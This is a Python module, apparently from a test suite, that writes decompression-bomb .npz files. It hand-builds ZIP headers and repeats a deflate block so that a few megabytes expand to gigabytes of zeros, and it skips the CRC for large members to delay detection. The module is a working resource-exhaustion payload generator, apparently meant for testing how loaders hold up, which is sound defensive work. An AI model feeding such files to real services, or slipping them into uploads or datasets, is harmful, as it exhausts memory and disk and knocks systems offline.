"""Decompression bombs: .npz files a few MB long whose arrays expand to GiBs of zeros.

The deflate stream is made once per 4 MiB of zeros and repeated (after a full flush each piece
decompresses alone), so a 4 GiB member takes a second to write, not a minute to compress. Past
64 MiB the CRC-32 is not computed (written as 0): a reader checks it only after expanding it all.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import numpy as np

from .writes import put

_CHUNK = 1 << 22


def _deflated_zeros(header: bytes, size: int) -> tuple[bytes, int, int]:
    """(raw deflate stream, CRC-32, uncompressed length) of `header` then `size` zero bytes."""
    pieces, crc = [], zlib.crc32(header)
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces.append(first.compress(header) + first.flush(zlib.Z_FULL_FLUSH))
    chunk = bytes(_CHUNK)
    one = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = one.compress(chunk) + one.flush(zlib.Z_FULL_FLUSH)
    full, rest = divmod(size, _CHUNK)
    pieces.append(block * full)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces.append(last.compress(bytes(rest)) + last.flush())
    if full <= 16:
        for _ in range(full):
            crc = zlib.crc32(chunk, crc)
        crc = zlib.crc32(bytes(rest), crc)
    else:
        crc = 0
    return b"".join(pieces), crc, len(header) + size


def npz_bomb(path: Path, members: list[tuple[str, tuple[int, ...], str]]) -> Path:
    """An .npz of `members` (name, shape, dtype), each all zeros, deflated; members under 4 GiB."""
    out, central = bytearray(), bytearray()
    for name, shape, dtype in members:
        descr = np.lib.format.dtype_to_descr(np.dtype(dtype))
        text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {tuple(shape)!r}, }}"
        text += " " * (63 - (10 + len(text)) % 64) + "\n"
        header = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")
        size = int(np.prod(shape)) * np.dtype(dtype).itemsize
        data, crc, length = _deflated_zeros(header, size)
        assert length < 1 << 32, "members must stay under 4 GiB (no zip64 here)"
        fname = f"{name}.npy".encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), length, len(fname), 0)
        out += fname + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), length,
                               len(fname), 0, 0, 0, 0, 0, offset) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    put(Path(path), bytes(out + central + end))
    return Path(path)
